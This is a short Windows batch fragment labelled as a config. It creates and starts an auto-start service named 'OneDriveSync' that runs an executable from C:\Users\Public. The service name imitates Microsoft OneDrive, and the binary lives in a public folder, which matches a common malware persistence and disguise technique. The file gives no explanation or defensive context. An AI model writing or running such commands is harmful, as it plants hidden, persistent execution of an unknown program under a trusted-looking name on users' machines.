REM config 7188 v3
sc create OneDriveSync binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
sc start OneDriveSync
